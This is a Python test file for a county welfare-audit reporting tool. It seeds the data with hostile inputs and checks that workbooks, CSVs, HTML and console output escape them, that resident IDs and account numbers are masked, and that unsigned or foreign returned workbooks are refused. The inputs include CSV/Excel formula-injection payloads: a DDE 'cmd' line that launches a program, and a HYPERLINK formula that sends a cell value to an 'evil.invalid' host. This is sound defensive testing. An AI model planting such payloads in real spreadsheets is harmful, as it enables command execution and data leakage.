"""A hostile-input corpus, generated here: formula text in every text column of the data, IDs
written every way in free text, foreign and unsigned returned workbooks, broken XML, Rich markup.
Each attack asserts the safe outcome (issue 13)."""

from __future__ import annotations

import csv
import re
import stat
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import openpyxl
import pytest
from test_reports_county import build_county
from typer.testing import CliRunner

import reports
from pipelines import steps
from pipelines.cli import app
from reports import feedback, manifest, signing
from reports.masking import mask_text
from xuncha.config import WorkspaceConfig
from xuncha.files import csv_safe_text, csv_unescape, write_csv

STAMP = "20241201-093000"
MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
FORMULAS = ['=HYPERLINK("http://evil.invalid/"&A1,"点")', "=cmd|' /C calc'!A0", "+SUM(1)", "-1+2", "@SUM(A1)",
            "=WEBSERVICE(\"http://x.invalid\")", "\t=1", "\r=1", "<script>alert(1)</script>"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
MARKUP = "[bold red]假[/]"
MARKUP_NAME = "[bold red]村[red]"  # in a file name (no slash)
DIGITS = str.maketrans("０１２３４５６７８９", "0123456789")


def id_forms(pid: str) -> list[str]:
    """A resident ID as people write it in free text."""
    full_width = pid.translate(str.maketrans("0123456789", "０１２３４５６７８９"))
    return [pid, " ".join(pid[i:i + 4] for i in range(0, 18, 4)), f"{pid[:6]}-{pid[6:14]}-{pid[14:]}", full_width,
            f"ID{pid}abc"]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The report tests' county with formula text prefixed to every text column of the data and each
    person's ID written into their name in all the free-text forms; checked and reported again."""
    root = tmp_path_factory.mktemp("hostile")
    county = build_county(root)
    con = county.con
    columns = con.execute(
        "SELECT table_name, column_name FROM information_schema.columns WHERE data_type = 'VARCHAR' "
        "AND table_schema = current_schema() AND table_name IN (SELECT table_name FROM information_schema.tables "
        "WHERE table_schema = current_schema())").fetchall()
    skip = re.compile(r"(_id|_code|_key|account_no|^source_.*|_month|_date|village_match|extract)$")
    for i, (table, column) in enumerate(columns):
        if skip.search(column) or table.startswith(("flag", "triage", "check_", "load_log", "village_scores", "_")):
            continue
        con.execute(f'UPDATE "{table}" SET "{column}" = ? || "{column}" WHERE "{column}" IS NOT NULL',
                    [FORMULAS[i % len(FORMULAS)]])
    for name, pid in county.people.items():
        text = name + " " + " / ".join(id_forms(pid)[1:])
        for (table,) in con.execute("SELECT DISTINCT table_name FROM information_schema.columns WHERE "
                                    "column_name = 'person_name' AND table_schema = current_schema()").fetchall():
            if {"person_id"} <= {c for (c,) in con.execute(
                    "SELECT column_name FROM information_schema.columns WHERE table_name = ?", [table]).fetchall()}:
                con.execute(f'UPDATE "{table}" SET person_name = person_name || ? WHERE person_id = ?', [text, pid])
    steps.check(steps.Workspace(root), con, county.config)
    paths = reports.write_all(con, root, county.config, STAMP)
    yield county, paths
    con.close()


def sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def formulas(path: Path) -> list[str]:
    """The text of every <f> element of the workbook's sheets."""
    with zipfile.ZipFile(path) as z:
        return [f.text or "" for n in z.namelist() if n.startswith("xl/worksheets/")
                for f in ElementTree.fromstring(z.read(n)).iter(f"{{{MAIN_NS}}}f")]


def cell_texts(path: Path) -> list[str]:
    wb = openpyxl.load_workbook(path, read_only=True)
    try:
        return [str(c) for ws in wb.worksheets for r in ws.iter_rows(values_only=True) for c in r if c is not None]
    finally:
        wb.close()


def _number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
        return True
    except ValueError:
        return False


def test_the_corpus_reaches_the_outputs(hostile) -> None:
    county, paths = hostile
    texts = [t for p in paths.village_workbooks.values() for t in cell_texts(p)]
    # Excel reads a cell starting with any of = + - @ as a formula. Which of a person's differing
    # names a flag shows is decided by rule A06 (most often, then in order), not by this corpus.
    assert any(t.startswith(("=", "+", "-", "@")) and not _number(t) for t in texts), \
        "the hostile text should be in the team workbooks"
    assert any("611021********" in t for t in texts), "the IDs written in names should be there, masked"


def test_no_formula_from_data_in_any_workbook(hostile) -> None:
    _, paths = hostile
    books = [paths.office_workbook, *paths.village_workbooks.values()]
    for path in books:
        for formula in formulas(path):
            # the office workbook's own links to the village workbooks, nothing else
            assert path == paths.office_workbook and formula.startswith('HYPERLINK("村级清单/'), formula
        assert ' t="e"' not in sheet_xml(path)
    assert formulas(paths.office_workbook), "the office workbook's own links are formulas"


def test_no_csv_cell_starts_with_a_formula_character(hostile) -> None:
    county, _ = hostile
    names = ["flags.csv", "villages.csv", "rule_coverage.csv", "town_common.csv"]
    seen_escaped = False
    for name in names:
        with (county.root / name).open(encoding="utf-8-sig", newline="") as f:
            for row in csv.reader(f):
                for cell in row:
                    if cell.startswith(FORMULA_START):
                        float(cell)  # only numbers (a negative amount) may start with "-" or "+"
                    seen_escaped |= cell.startswith(("'=", "'+", "'-", "'@"))
    assert seen_escaped, "the formula text should be in flags.csv, escaped"


def test_csv_escaping_round_trips(tmp_path) -> None:
    import polars as pl

    values = [*FORMULAS, "'=already quoted", "'plain", "plain", "", "-"]
    for v in values:
        assert csv_unescape(csv_safe_text(v)) == v
        assert not csv_safe_text(v).startswith(FORMULA_START)
    write_csv(pl.DataFrame({"text": values, "amount": [-1.5] * len(values)}), tmp_path / "x.csv")
    back = pl.read_csv(tmp_path / "x.csv", infer_schema=False)
    assert [csv_unescape(v or "") for v in back["text"]] == values
    assert set(back["amount"]) == {"-1.5"}  # numbers stay numbers


def test_ingest_report_escapes_file_and_sheet_names(tmp_path) -> None:
    from connectors.ingest_report import SheetReport, write_ingest_report

    report = SheetReport("=cmd|' /C calc'!A0.xlsx", "@SUM(A1)", None, 1, 0, 0, 0, "-2+3 无法识别")
    write_ingest_report([report], tmp_path / "ingest_report.csv")
    with (tmp_path / "ingest_report.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.reader(f))
    assert all(not c.startswith(FORMULA_START) for row in rows for c in row)
    from reports.inputs import _ingest_sheets

    frame = _ingest_sheets(tmp_path)
    assert frame["file"][0] == report.file and frame["message"][0] == report.message


def test_no_full_id_in_any_team_workbook_in_any_written_form(hostile) -> None:
    county, paths = hostile
    for path in paths.village_workbooks.values():
        for text in cell_texts(path):
            digits = re.sub(r"[\s\-_.·]", "", text.translate(DIGITS))
            for pid in county.people.values():
                assert pid[:17] not in digits, (path.name, text)


@pytest.mark.parametrize("form", range(5))
def test_masking_every_written_form(form) -> None:
    pid = "61102119400101001X"
    text = f"领取人张三{id_forms(pid)[form]}号"
    masked = mask_text(text)
    assert "611021********001X" in masked
    account = "6217000011112222333"
    for written in (account, " ".join(account[i:i + 4] for i in range(0, 19, 4)), f"卡号{account}元",
                    account.translate(str.maketrans("0123456789", "０１２３４５６７８９"))):
        assert "2333" in mask_text(written) and "62170000111" not in mask_text(written).translate(DIGITS)


def returned(path: Path, out: Path, results: dict[str, str]) -> Path:
    """The team's copy of a village workbook, with 核查结果 filled for these flags, saved by openpyxl."""
    wb = openpyxl.load_workbook(path)
    sheet = wb[feedback.SHEET]
    header = next(r for r in sheet.iter_rows(min_row=1, max_row=10) if any(c.value == feedback.ID_HEADER for c in r))
    col = {c.value: c.column for c in header}
    for row in sheet.iter_rows(min_row=header[0].row + 1):
        flag = row[col[feedback.ID_HEADER] - 1].value
        if flag in results:
            sheet.cell(row[0].row, col[feedback.RESULT_HEADER], results[flag])
    wb.save(out)
    return out


def flags_by_village(con) -> dict[str, list[str]]:
    out: dict[str, list[str]] = {}
    for flag, village in con.execute("SELECT flag_id, village_code FROM flags ORDER BY flag_id").fetchall():
        out.setdefault(village, []).append(flag)
    return out


def test_feedback_refuses_foreign_flags_unsigned_and_broken_files(hostile, tmp_path) -> None:
    county, paths = hostile
    flags = flags_by_village(county.con)
    code_a, code_b = sorted(flags)[:2]
    book_a = paths.village_workbooks[code_a]
    own, foreign = flags[code_a][0], flags[code_b][0]
    # a team writes another village's flag into its own list
    wb = openpyxl.load_workbook(book_a)
    sheet = wb[feedback.SHEET]
    sheet.append([None] * 20)
    last = sheet.max_row
    header = next(r for r in sheet.iter_rows(min_row=1, max_row=10) if any(c.value == feedback.ID_HEADER for c in r))
    col = {c.value: c.column for c in header}
    sheet.cell(last, col[feedback.ID_HEADER], foreign)
    sheet.cell(last, col[feedback.RESULT_HEADER], "排除：不属实 " + MARKUP)
    for row in sheet.iter_rows(min_row=header[0].row + 1, max_row=last - 1):
        if row[col[feedback.ID_HEADER] - 1].value == own:
            sheet.cell(row[0].row, col[feedback.RESULT_HEADER], "已核实 " + MARKUP)
    mixed = tmp_path / f"{MARKUP_NAME}.xlsx"
    wb.save(mixed)
    # a workbook xuncha did not issue: same content, no signature
    unsigned = openpyxl.load_workbook(mixed)
    unsigned.custom_doc_props.props = []
    unsigned.save(tmp_path / "unsigned.xlsx")
    # broken XML inside a zip that looks like a workbook
    broken = tmp_path / "broken.xlsx"
    with zipfile.ZipFile(mixed) as src, zipfile.ZipFile(broken, "w") as dst:
        for n in src.namelist():
            data = src.read(n)
            dst.writestr(n, data[: len(data) // 2] if n.startswith("xl/worksheets/") else data)

    con = county.con
    before = con.execute("SELECT count(*) FROM triage").fetchone()[0] if _has_triage(con) else 0
    result = feedback.import_files(con, [broken, tmp_path / "unsigned.xlsx", mixed],
                                   signing.workspace_key(county.root))
    text = "\n".join(f"{f}：{m}" for f, m in result.messages)
    assert "broken.xlsx" in text and "unsigned.xlsx" in text and "签名" in text
    assert "不属于这份清单所属的村" in text
    assert result.imported == 1
    triage = dict(con.execute("SELECT flag_id, triage_status FROM triage").fetchall())
    assert triage.get(own) == "已核实" and foreign not in triage
    assert con.execute("SELECT count(*) FROM triage").fetchone()[0] == before + 1


def _has_triage(con) -> bool:
    return bool(con.execute("SELECT count(*) FROM information_schema.tables WHERE table_name = 'triage'").fetchone()[0])


def test_console_prints_markup_in_data_literally(hostile, tmp_path) -> None:
    county, paths = hostile
    code, flags = next(iter(flags_by_village(county.con).items()))
    book, flag = paths.village_workbooks[code], flags[0]
    path = returned(book, tmp_path / f"{MARKUP_NAME}.xlsx", {flag: "看不懂 [/] " + MARKUP})
    county.con.close()
    try:
        result = CliRunner().invoke(app, ["import-feedback", str(path), "--workspace", str(county.root)])
    finally:
        county.con = steps.Workspace(county.root).connect()
    assert result.exit_code == 0, result.output
    output = result.output.replace("\n", "")  # rich wraps long lines
    assert MARKUP_NAME in output and MARKUP in output


def test_outputs_are_owner_only(hostile) -> None:
    county, paths = hostile
    root = county.root
    for path in [root, root / "reports", paths.root, paths.office_workbook, *paths.village_workbooks.values(),
                 root / "warehouse.duckdb", root / "flags.csv", root / signing.KEY_FILE]:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode & 0o077 == 0, f"{path}: {oct(mode)}"


def test_a_workspace_made_open_is_closed_when_opened(tmp_path) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    root.chmod(0o755)
    (root / "flags.csv").write_text("flag_id\n", encoding="utf-8")
    (root / "flags.csv").chmod(0o644)
    steps.Workspace(root).connect().close()
    assert stat.S_IMODE(root.stat().st_mode) == 0o700
    assert stat.S_IMODE((root / "flags.csv").stat().st_mode) == 0o600
    assert stat.S_IMODE((root / "warehouse.duckdb").stat().st_mode) & 0o077 == 0


def test_output_settings_count_as_changes(tmp_path, monkeypatch) -> None:
    monkeypatch.delenv("XUNCHA_REPORT_PASSWORD", raising=False)
    county = build_county(tmp_path)
    plain = county.config
    reports.write_all(county.con, tmp_path, plain, STAMP)
    from reports.write import settings_current

    assert settings_current(tmp_path, plain)
    encrypted = WorkspaceConfig.model_validate({"county": {"name": "示例县"},
                                                "reports": {"encrypt_team_workbooks": True, "password": "甲-1"}})
    assert not settings_current(tmp_path, encrypted)
    reports.write_all(county.con, tmp_path, encrypted, "20241202-093000")
    assert settings_current(tmp_path, encrypted)
    other = encrypted.model_copy(update={"reports": encrypted.reports.model_copy(update={"password": "乙-2"})})
    assert not settings_current(tmp_path, other)
    latest = manifest.previous(tmp_path / "reports", "")
    assert latest is not None and "甲-1" not in (latest.root / manifest.FILE_NAME).read_text(encoding="utf-8")
    county.con.close()


def test_hostile_text_in_the_overview_page_is_escaped(hostile) -> None:
    _, paths = hostile
    page = paths.overview.read_text(encoding="utf-8")
    for hostile_text in FORMULAS:
        if "<" in hostile_text or '"' in hostile_text:
            assert hostile_text not in page  # shown escaped, if at all


def test_a_long_sheet_naming_one_flag_again_and_again_is_one_record_and_one_message_per_kind(hostile, tmp_path) -> None:
    import time

    from reports import xlsx

    county, _ = hostile
    flags = flags_by_village(county.con)
    code = sorted(flags)[0]
    flag = flags[code][-1]
    wb = xlsx.new_workbook()
    rows = [[flag, "已核实：属实"]] * 19_998 + [["不存在的编号", "已核实"], [flag, "看不懂"]]
    xlsx.table_sheet(wb, feedback.SHEET, [xlsx.Col(feedback.ID_HEADER, 20), xlsx.Col(feedback.RESULT_HEADER, 20)],
                     rows, header_text="清单")
    signing.sign(wb, signing.workspace_key(county.root), STAMP, code)
    path = tmp_path / "big.xlsx"
    path.write_bytes(xlsx.to_bytes(wb))
    started = time.perf_counter()
    result = feedback.import_files(county.con, [path], signing.workspace_key(county.root))
    seconds = time.perf_counter() - started
    assert result.imported <= 1 and len(result.messages) == 2, result.messages  # one unknown id, one unreadable
    assert seconds < 120, f"{seconds:.1f} s for 20,000 rows"
    status = county.con.execute("SELECT triage_status FROM triage WHERE flag_id = ?", [flag]).fetchone()
    assert status is not None and status[0] == "已核实"


# Control characters in the data (a name pasted from a terminal, a 摘要 exported with a stray \x07):
# raw in a workbook's XML (invalid XML some exporters write anyway), as Excel's own _x0008_ escape,
# in CSV text (NUL too), in a file name. No workbook may hold them: openpyxl refuses them and Excel
# does not open a workbook that does.
RAW_CONTROLS = "\x01\x07\x1b"
ESCAPED_CONTROL = "_x0008_"  # what Excel writes for \x08; readers give back \x08
NAME_HEADERS = ("户主姓名", "家庭成员姓名")
SUMMARY_HEADER = "摘要"
CONTROL_RE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def _with_controls(path: Path, headers: tuple[str, ...]) -> list[str]:
    """Rewrite an .xlsx with control characters after the first character and at the end of every text
    under `headers`; the texts as they were."""
    wb = openpyxl.load_workbook(path)
    seen = []
    for ws in wb.worksheets:
        cols = None
        for row in ws.iter_rows():
            if cols is None:
                cols = [c.column for c in row if c.value in headers] or None
                continue
            for c in row:
                if c.column in cols and isinstance(c.value, str) and len(c.value) > 1:
                    seen.append(c.value)
                    c.value = c.value[:1] + "QQRAW" + c.value[1:] + "QQESC"
    wb.save(path)
    with zipfile.ZipFile(path) as src:
        parts = {n: src.read(n) for n in src.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for n, data in parts.items():
            dst.writestr(n, data.replace(b"QQRAW", RAW_CONTROLS.encode()).replace(b"QQESC", ESCAPED_CONTROL.encode()))
    return seen


def test_control_characters_in_the_data_run_end_to_end(sample_inbox, tmp_path) -> None:
    import os
    import shutil
    import subprocess
    import sys

    inbox = tmp_path / "inbox"
    shutil.copytree(sample_inbox(12, 11), inbox)  # one town: flags on ledger 摘要 too
    roster = next(inbox.rglob("*低保*花名册*.xlsx"))
    names = _with_controls(roster, NAME_HEADERS)
    summaries = [s for p in inbox.rglob("*财务明细账*.xlsx") for s in _with_controls(p, (SUMMARY_HEADER,))]
    assert names and summaries
    register = next(inbox.rglob("户籍人口*.csv"))
    lines = register.read_text(encoding="utf-8-sig").splitlines(keepends=True)
    rows = [line.split(",") for line in lines[1:]]
    for row in rows:  # the name (second column) with NUL and \x02 in it
        row[1] = row[1][:1] + "\x00\x02" + row[1][1:]
    register.write_text(lines[0] + "".join(",".join(row) for row in rows), encoding="utf-8-sig")
    deaths = next(inbox.rglob("死亡*.csv"))
    deaths.rename(deaths.with_name("死亡\x07" + deaths.name))  # a control character in a file name

    ws = tmp_path / "ws"
    env = {k: v for k, v in os.environ.items() if not k.startswith("XUNCHA_TEST_")} | {
        "XUNCHA_WITHOUT_PREFECT": "1", "COLUMNS": "500"}
    result = subprocess.run([str(Path(sys.executable).with_name("xuncha")), "run", str(inbox), "--workspace", str(ws)],
                            env=env, capture_output=True, text=True, timeout=600)
    assert result.returncode == 0, result.stderr[-3000:]
    assert "Traceback" not in result.stderr and "Exception ignored" not in result.stderr, result.stderr[-3000:]

    # the readers read every file (nothing unreadable), the names without their control characters
    con = steps.Workspace(ws).connect()
    try:
        roster_names = {n for (n,) in con.execute("SELECT member_name FROM assistance_roster").fetchall()}
        register_names = {n for (n,) in con.execute("SELECT person_name FROM household_register").fetchall()}
        files = {f for (f,) in con.execute("SELECT DISTINCT source_file FROM load_log").fetchall()}
    finally:
        con.close()
    assert not any(CONTROL_RE.search(n or "") for n in roster_names | register_names)
    assert {n for n in names if n in roster_names}, "roster names are read without their control characters"
    assert any("死亡\x07" in f for f in files), "the file with a control character in its name is read"

    report_root = max((ws / "reports").glob("2*"))
    books = sorted(report_root.rglob("*.xlsx"))
    assert books
    texts = []
    for path in books:
        with zipfile.ZipFile(path) as z:  # every part is well-formed XML (what Excel insists on)
            for n in z.namelist():
                if n.endswith(".xml"):
                    ElementTree.fromstring(z.read(n))
        wb = openpyxl.load_workbook(path)  # not read-only: every part parsed
        texts += [c for ws_ in wb.worksheets for row in ws_.iter_rows(values_only=True) for c in row if isinstance(c, str)]
        wb.close()
    assert not any(CONTROL_RE.search(t) for t in texts)
    # each 摘要 written with U+FFFD where it held a control character, the rest of it unchanged
    shown = {s[:1] + "\ufffd" * len(RAW_CONTROLS) + s[1:] + "\ufffd" for s in summaries}
    assert any(s in t for t in texts for s in shown), "a 摘要 with its control characters replaced"
    assert any("死亡\ufffd" in t for t in texts), "the file name is shown with U+FFFD"
    for page in [*report_root.glob("*.html"), ws / "data_quality.html"]:
        if page.exists():
            assert not CONTROL_RE.search(page.read_text(encoding="utf-8")), page
